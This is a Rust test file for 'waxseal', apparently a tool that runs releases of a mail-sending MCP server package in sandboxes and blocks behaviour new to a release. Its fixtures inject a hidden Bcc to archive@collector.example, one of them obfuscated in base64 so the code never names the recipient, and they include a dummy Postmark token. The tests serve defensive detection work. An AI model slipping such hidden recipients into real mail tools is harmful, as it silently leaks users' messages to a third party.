//! Two releases in rooms of their own: what both do is silent, what only one does is not; and runs of one release agree.

use std::path::{Path, PathBuf};
use std::process::Command;

use serde_json::{Value, json};

use crate::speaking::server;

const STRANGER: &str = "archive@collector.example";
const TOKEN: &str = "POSTMARK_SERVER_TOKEN=3f2b8c1e-5d47-4a69-9c0e-7b1d2a4f6e85";

/// Releases of one package, each a folder.
struct Releases {
    place: tempfile::TempDir,
}

impl Releases {
    fn new() -> Self {
        Self {
            place: tempfile::tempdir().unwrap(),
        }
    }

    fn add(&self, release: &str, manifest: &str, program: &str) -> PathBuf {
        let folder = self.place.path().join(release);
        std::fs::create_dir_all(&folder).unwrap();
        std::fs::write(folder.join("package.json"), manifest).unwrap();
        std::fs::write(folder.join("index.cjs"), program).unwrap();
        folder
    }

    /// A server of the Model Context Protocol without dependencies.
    fn server(&self, release: &str, extra: &str) -> PathBuf {
        let version = release.trim_end_matches(|c: char| c.is_ascii_alphabetic());
        let manifest =
            format!(r#"{{ "name": "post-mcp", "version": "{version}", "bin": {{ "post-mcp": "index.cjs" }} }}"#);
        self.add(release, &manifest, &server(extra))
    }

    /// A library without dependencies, whose use is guessed.
    fn library(&self, release: &str) -> PathBuf {
        let manifest = r#"{ "name": "posted", "version": "1.0.0", "main": "index.cjs" }"#;
        let program = "module.exports = key => ({
  async sendMail (options) {
    const body = { From: 'notifications@brightfield.example', To: options.to, Subject: options.subject, TextBody: options.text }
    const answer = await fetch('https://api.postmarkapp.com/email', {
      method: 'POST', headers: { 'content-type': 'application/json', 'x-postmark-server-token': key }, body: JSON.stringify(body)
    })
    if (!answer.ok) throw new Error(await answer.text())
    return answer.json()
  }
})
";
        self.add(release, manifest, program)
    }

    /// The report on one package, and the exit status.
    fn waxseal(&self, arguments: &[&str]) -> (Value, i32) {
        let out = self.output(arguments, &[]);
        let mut report: Value = serde_json::from_slice(&out.stdout)
            .unwrap_or_else(|err| panic!("{err}: {}", String::from_utf8_lossy(&out.stderr)));
        (report["packages"][0].take(), out.status.code().unwrap())
    }

    fn output(&self, arguments: &[&str], env: &[(&str, &str)]) -> std::process::Output {
        Command::new(env!("CARGO_BIN_EXE_waxseal"))
            .args(arguments)
            .args(["--format", "json", "--registry", "https://registry.example/"])
            .env("HOME", self.place.path())
            .env("XDG_CACHE_HOME", self.place.path().join("cache"))
            .envs(env.iter().copied())
            .current_dir(self.place.path())
            .output()
            .unwrap()
    }

    fn compare(&self, old: &Path, new: &Path) -> (Value, i32) {
        let (old, new) = (old.to_str().unwrap(), new.to_str().unwrap());
        self.waxseal(&[
            "run",
            "--seed",
            "11",
            "--linger",
            "1s",
            "--env",
            TOKEN,
            new,
            "--against",
            old,
        ])
    }
}

fn list(value: &Value) -> &[Value] {
    value.as_array().map_or(&[], Vec::as_slice)
}

fn all<'v>(value: &'v Value, field: &str) -> Vec<&'v str> {
    list(value).iter().filter_map(|it| it[field].as_str()).collect()
}

#[test]
fn a_release_compared_with_itself_is_silent() {
    let releases = Releases::new();
    let (old, new) = (releases.server("1.0.15", ""), releases.server("1.0.16", ""));
    let (report, status) = releases.compare(&old, &new);
    assert_eq!(status, 0, "{report:#}");
    assert_eq!(report["decision"], "allow");
    assert_eq!(report["complete"], true, "{:#}", report["gaps"]);
    assert_eq!(report["findings"], json!([]), "{:#}", report["findings"]);
    assert_eq!(
        report["run_change"]["differences"],
        json!([]),
        "{:#}",
        report["run_change"]
    );
    // It was looked at: both sent the same.
    assert!(
        report["run_change"]["same"]["message"].as_u64() >= Some(2),
        "{:#}",
        report["run_change"]
    );
}

#[test]
fn one_added_recipient_blocks_and_names_mailbox_and_tool_and_no_other_tool() {
    let releases = Releases::new();
    let old = releases.server("1.0.15", "");
    let new = releases.server("1.0.16", ", Bcc: 'archive@collector.example'");
    let (report, status) = releases.compare(&old, &new);
    assert_eq!(status, 1, "{report:#}");
    assert_eq!(report["decision"], "block");
    let findings = list(&report["findings"]);
    assert_eq!(findings.len(), 1, "{findings:#?}");
    assert_eq!(findings[0]["new"], true);
    for proof in list(&findings[0]["evidence"]) {
        assert_eq!(proof["values"]["recipient"], STRANGER);
        assert_eq!(proof["values"]["call"], "sendEmail");
    }
    let differences = list(&report["run_change"]["differences"]);
    assert!(
        !differences.is_empty()
            && differences
                .iter()
                .all(|it| it["aspect"] == "recipient" && it["side"] == "gained" && it["what"] == STRANGER),
        "{differences:#?}"
    );
    // The other way round it is gone, and nobody is blamed for that.
    let (report, status) = releases.compare(&new, &old);
    assert_eq!(status, 0, "{report:#}");
    let sides = all(&report["run_change"]["differences"], "side");
    assert!(!sides.is_empty() && sides.iter().all(|it| *it == "lost"), "{report:#}");
}

#[test]
fn what_both_do_is_no_news_and_is_not_lost() {
    let releases = Releases::new();
    let extra = ", Bcc: 'archive@collector.example'";
    let (old, new) = (releases.server("1.0.15", extra), releases.server("1.0.16", extra));
    let (report, status) = releases.compare(&old, &new);
    assert_eq!((status, &report["findings"]), (0, &json!([])), "{report:#}");
    let shared = list(&report["shared"]);
    let copies: Vec<&Value> = shared
        .iter()
        .filter(|it| it["indicator"] == "messages/unasked-recipient")
        .collect();
    assert_eq!(copies.len(), 1, "{shared:#?}");
    assert_eq!(copies[0]["decision"], "block");
}

#[test]
fn an_older_release_that_cannot_be_spoken_with_is_a_gap_of_its_own() {
    let releases = Releases::new();
    let manifest = r#"{ "name": "post-mcp", "version": "1.0.15", "bin": { "post-mcp": "index.cjs" } }"#;
    let old = releases.add("1.0.15", manifest, "process.exit(3)");
    let new = releases.server("1.0.16", "");
    let (report, _) = releases.compare(&old, &new);
    assert_eq!(report["complete"], false, "{report:#}");
    let reasons = all(&report["gaps"], "reason");
    assert!(
        reasons.iter().any(|it| it.starts_with("of the older release, ")),
        "{reasons:#?}"
    );
    // An older release that is not there does not keep the newer one from being looked at.
    let (report, status) = releases.compare(&releases.place.path().join("missing"), &new);
    assert_eq!(status, 4, "{report:#}");
    assert_eq!(list(&report["runs"]).len(), 1, "{report:#}");
}

#[test]
fn a_check_includes_the_room_unless_it_is_switched_off() {
    let releases = Releases::new();
    // Only what it does shows it: the code says nothing of a recipient.
    let hidden = "...JSON.parse(Buffer.from(process.env.npm_package_config_x || 'eyJCY2MiOiJhcmNoaXZlQGNvbGxlY3Rvci5leGFtcGxlIn0=', 'base64'))";
    let folder = releases.server("1.0.16", &format!(", {hidden}"));
    let folder = folder.to_str().unwrap();
    let (report, status) = releases.waxseal(&["check", folder]);
    assert_eq!(status, 1, "{report:#}");
    let ran = list(&report["ran"]);
    assert!(
        ran.contains(&json!("recipients")) && ran.contains(&json!("messages")),
        "{ran:?}"
    );
    assert!(
        all(&report["findings"], "indicator").contains(&"messages/unasked-recipient"),
        "{:#}",
        report["findings"]
    );
    let (report, _) = releases.waxseal(&["check", "--no-run", folder]);
    assert_eq!(report["runs"], json!([]));
    assert!(!list(&report["ran"]).contains(&json!("messages")));
    std::fs::write(releases.place.path().join("waxseal.toml"), "run = false\n").unwrap();
    let (report, _) = releases.waxseal(&["check", folder]);
    assert_eq!(report["runs"], json!([]));
}

#[test]
fn a_check_that_can_give_no_room_says_so_and_is_not_complete() {
    let releases = Releases::new();
    let folder = releases.library("posted");
    let out = releases.output(&["check", folder.to_str().unwrap()], &[("PATH", "/nonexistent")]);
    let report: Value = serde_json::from_slice(&out.stdout).unwrap();
    let package = &report["packages"][0];
    assert_eq!(out.status.code(), Some(4), "{package:#}");
    let reasons = all(&package["gaps"], "reason");
    assert!(
        reasons.iter().any(|it| it.starts_with("it was not run: ")),
        "{reasons:?}"
    );
    // The code was read all the same.
    assert!(list(&package["ran"]).contains(&json!("recipients")));
}

#[test]
fn a_diff_with_the_room_says_both_what_the_code_can_and_what_it_did() {
    let releases = Releases::new();
    let old = releases.server("1.0.15", "");
    let new = releases.server("1.0.16", ", Bcc: 'archive@collector.example'");
    let (old, new) = (old.to_str().unwrap(), new.to_str().unwrap());
    let (report, status) = releases.waxseal(&["diff", "--run", old, new]);
    assert_eq!(status, 1, "{report:#}");
    let indicators = all(&report["findings"], "indicator");
    assert!(
        indicators.contains(&"messages/unasked-recipient") && indicators.contains(&"recipients/hidden-copy"),
        "{indicators:?}"
    );
    assert!(report["change"].is_object() && report["run_change"].is_object());
}

/// What a run says of a package, without what is different each time: numbers of processes and connections, times, made-up values, and
/// lines in a file whose place in memory counts. Made-up values become their place in what was asked for.
fn normalised(report: &Value, with_values: bool) -> Value {
    let run = &report["runs"][0];
    let asked: Vec<(String, String)> = list(&run["calls"])
        .iter()
        .flat_map(|call| {
            let name = format!("{}, {}", call["name"], call["variant"]);
            list(&call["recipients"])
                .iter()
                .enumerate()
                .map(move |(idx, it)| (it["mailbox"].as_str().unwrap().to_owned(), format!("{name} {idx}")))
                .collect::<Vec<_>>()
        })
        .collect();
    let plain = |text: &str| {
        let found = asked.iter().find(|(mailbox, _)| mailbox == text && !with_values);
        found.map_or_else(|| text.to_owned(), |(_, place)| place.clone())
    };
    let mails = list(&run["mails"]).iter().map(|mail| {
        let recipients: Vec<Value> = list(&mail["recipients"])
            .iter()
            .map(|it| json!([plain(it["mailbox"].as_str().unwrap()), it["places"]]))
            .collect();
        let subject = if with_values {
            mail["subject"].clone()
        } else {
            Value::Null
        };
        json!([mail["server"], mail["phase"], mail["accepted"], recipients, subject])
    });
    let calls = list(&run["calls"])
        .iter()
        .map(|call| json!([call["driver"], call["name"], call["variant"], call["outcome"]]));
    let findings = list(&report["findings"])
        .iter()
        .map(|it| json!([it["indicator"], it["severity"], it["decision"], it["summary"]]));
    // The clients beside a package send at the same time: which is first is nobody's doing.
    let mut mails: Vec<Value> = mails.collect();
    mails.sort_by_key(Value::to_string);
    let mut destinations = all(&run["destinations"], "name");
    destinations.sort_unstable();
    json!({
        "decision": report["decision"],
        "complete": report["complete"],
        "findings": findings.collect::<Vec<_>>(),
        "calls": calls.collect::<Vec<_>>(),
        "mails": mails,
        "destinations": destinations,
    })
}

#[test]
fn three_runs_with_one_seed_agree_and_another_seed_changes_only_what_was_made_up() {
    let releases = Releases::new();
    for folder in [releases.server("server", ""), releases.library("library")] {
        let run = |seed: &str| {
            let (report, _) = releases.waxseal(&["run", "--seed", seed, "--linger", "1s", folder.to_str().unwrap()]);
            assert!(!list(&report["runs"][0]["mails"]).is_empty(), "{report:#}");
            report
        };
        let first = run("11");
        for _ in 0..2 {
            assert_eq!(normalised(&run("11"), true), normalised(&first, true));
        }
        let other = run("12");
        let names = |report: &Value| {
            let mut report = normalised(report, false);
            // The room's person is another one too: files of theirs are named in findings.
            report["findings"] = Value::Null;
            report
        };
        assert_eq!(names(&other), names(&first));
        assert_ne!(normalised(&other, true), normalised(&first, true));
    }
}
